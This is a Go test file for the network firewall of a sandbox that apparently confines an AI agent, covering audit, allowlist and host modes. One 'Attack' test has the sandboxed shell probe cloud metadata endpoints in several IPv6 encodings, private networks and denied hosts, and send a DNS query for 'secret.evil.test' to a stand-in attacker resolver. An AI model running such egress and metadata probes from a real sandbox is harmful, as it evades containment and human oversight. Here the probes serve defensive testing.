package main

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/org/claude-sandbox/firewall"
	"github.com/org/claude-sandbox/firewall/audit"
	"github.com/org/claude-sandbox/internal/test/netnstest"
	"github.com/org/claude-sandbox/internal/test/testenv"
)

const auditPolicy = `{"network": {"mode": "audit", "allow": ["ok.test"], "deny": ["other.test", "` + thirdAddr + `"]}}`

// getScript has the agent fetch each URL and say whether somebody answered.
func getScript(t testing.TB, urls ...string) string {
	t.Helper()
	curl := testenv.Program(t, "curl")
	var b strings.Builder
	for _, u := range urls {
		fmt.Fprintf(&b, "echo '%s' -> $(%s -sS --noproxy '*' --max-time 3 '%s' 2>&1 | head -1)\n", u, curl, u)
	}
	return strings.ReplaceAll(b.String(), "->", `"->"`)
}

func answered(t testing.TB, stdout string) map[string]bool {
	t.Helper()
	out := map[string]bool{}
	for line := range strings.Lines(stdout) {
		url, rest, _ := strings.Cut(line, " -> ")
		out[url] = strings.Contains(rest, "hello from")
	}
	return out
}

// Mode audit lets the internet out, by name and by address, and says of each
// what the allowlist lacks.
func TestModeAuditLetsOutAndRecords(t *testing.T) {
	in := newInternet(t)
	b := newBox(t, in.Sandbox, auditPolicy)
	urls := []string{"http://ok.test/", "http://evil.test/", "http://evil.test:22/", "http://" + newAddr + "/", "http://[" + evilAddr6 + "]/"}
	r := b.sh(getScript(t, urls...))
	r.mustExit(t, 0)
	r.mustSay(t, "warning: mode audit: the whole internet is open")
	for url, ok := range answered(t, r.stdout) {
		if !ok {
			t.Errorf("%s was not let out", url)
		}
	}
	got := map[string]string{}
	for _, rec := range b.records() {
		if rec.Verdict != firewall.Allow {
			t.Errorf("a refusal: %+v", rec)
		}
		got[fmt.Sprintf("%s %s %s:%d", rec.Layer, rec.Name, rec.Dst, rec.Port)] = rec.Rule
	}
	for what, rule := range map[string]string{
		"dns ok.test :0":                    "ok.test",
		"dns evil.test :0":                  firewall.RuleUnlisted,
		"ip ok.test " + okAddr + ":80":      "ok.test",
		"ip evil.test " + evilAddr6 + ":22": firewall.RuleUnlisted,
		"ip  " + newAddr + ":80":            firewall.RuleUnlisted,
		"ip evil.test " + evilAddr6 + ":80": firewall.RuleUnlisted,
	} {
		if got[what] != rule {
			t.Errorf("record %q has rule %q, want %q; all: %v", what, got[what], rule, got)
		}
	}
}

// Attack: mode audit as a way to metadata, the machine's own network, private
// networks, other resolvers and what is denied.
func TestAttackModeAuditOpensTheSurroundings(t *testing.T) {
	in := newInternet(t)
	dig := testenv.Program(t, "dig")
	b := newBox(t, in.Sandbox, auditPolicy)
	wire := in.Capture(t)
	urls := []string{
		"http://" + metadata + "/", "http://rebind.test/", "http://other.test/", "http://" + thirdAddr + "/",
		"http://" + netnstest.InternetAddr4.String() + "/", "http://[" + netnstest.InternetAddr6.String() + "]/",
		"http://10.0.0.1/", "http://192.168.1.1/", "http://172.17.0.1/", "http://100.100.100.200/", "http://168.63.129.16/",
		"http://[fe80::1%25eth0]/", "http://[fd00:ec2::254]/", "http://[64:ff9b::a9fe:a9fe]/", "http://[2002:a9fe:a9fe::1]/",
		"http://" + evilAddr + ":53/", "http://" + evilAddr + ":853/",
	}
	script := getScript(t, urls...) + `
		` + dig + ` +tries=1 +time=1 @` + evilAddr + ` secret.evil.test TXT >/dev/null
		ping -c1 -W1 ` + evilAddr + ` >/dev/null 2>&1
		exit 0`
	r := b.sh(script)
	r.mustExit(t, 0)
	for url, ok := range answered(t, r.stdout) {
		if ok {
			t.Errorf("%s answered", url)
		}
	}
	wire.Nothing("mode audit", func(p netnstest.Packet) bool {
		return p.Dst.String() == dnsAddr && p.DstPort == 53 || isNeighbour(p)
	})
	if got := in.questions(); slices.ContainsFunc(got,
		func(name string) bool { return name != "rebind.test" && !strings.HasSuffix(name, ".corp.lan") }) {
		t.Errorf("names that arrived at the DNS server: %q", got)
	}
	for _, rec := range b.records() {
		if rec.Verdict == firewall.Allow && (rec.Layer != audit.LayerDNS || rec.Name == "other.test") {
			t.Errorf("let out: %+v", rec)
		}
	}
}

// From audit to allowlist and back while a connection is open: what the list
// lacks ends, and nothing is closed by mistake.
func TestReloadBetweenAuditAndAllowlist(t *testing.T) {
	in := newInternet(t)
	b := newBox(t, in.Sandbox, auditPolicy)
	_ = startSidecar(t, b)
	get := func(url string) bool {
		out, _ := curlAsAgent(t, in, url)
		return strings.Contains(out, "hello from")
	}
	reload := func(policy string) {
		t.Helper()
		b.write("policy.jsonc", policy)
		cmd := b.initCommand("reload", "--audit", b.path("run/audit.jsonl"))
		b.finish(cmd).mustExit(t, 0)
	}
	if !get("http://" + evilAddr + "/") {
		t.Fatal("mode audit does not let an address out")
	}
	reload(`{"network": {"allow": ["` + okAddr + `:80"]}}`)
	if get("http://"+evilAddr+"/") || !get("http://"+okAddr+"/") {
		t.Error("mode allowlist after audit is not what its list says")
	}
	reload(`{"network": {"mode": "none"}}`)
	if get("http://" + okAddr + "/") {
		t.Error("mode none lets something out")
	}
	reload(`{"network": {"mode": "host"}}`)
	if !get("http://"+evilAddr+"/") || !get("http://"+metadata+"/") {
		t.Error("mode host refuses something")
	}
	reload(auditPolicy)
	if !get("http://"+evilAddr+"/") || get("http://"+metadata+"/") {
		t.Error("mode audit after host is not closed where it must be")
	}
}

func TestModeHostSaysThatThereIsNoFirewall(t *testing.T) {
	in := newInternet(t)
	b := newBox(t, in.Sandbox, `{"network": {"mode": "host"}}`)
	r := b.sh(getScript(t, "http://evil.test/", "http://"+metadata+"/", "http://["+evilAddr6+"]/"))
	r.mustExit(t, 0)
	r.mustSay(t, "NO FIREWALL", "nothing is recorded")
	for url, ok := range answered(t, r.stdout) {
		if !ok {
			t.Errorf("%s was refused", url)
		}
	}
	if records := b.records(); len(records) > 0 {
		t.Errorf("recorded: %+v", records)
	}
}

// The plan that 'sbx-init plan' prints knows the machine's own networks.
func TestPlanOfModeAuditNamesTheSurroundings(t *testing.T) {
	in := newInternet(t)
	b := newBox(t, in.Sandbox, auditPolicy)
	r := b.finish(b.initCommand("plan", "--policy", b.path("policy.jsonc")))
	r.mustExit(t, 0)
	r.mustSay(t, "-A SBX-OUT -d "+netnstest.InternetAddr4.String()+"/32 -j SBX-NO", "-A SBX-OUT -d 2001:db8::/64 -j SBX-NO")
}
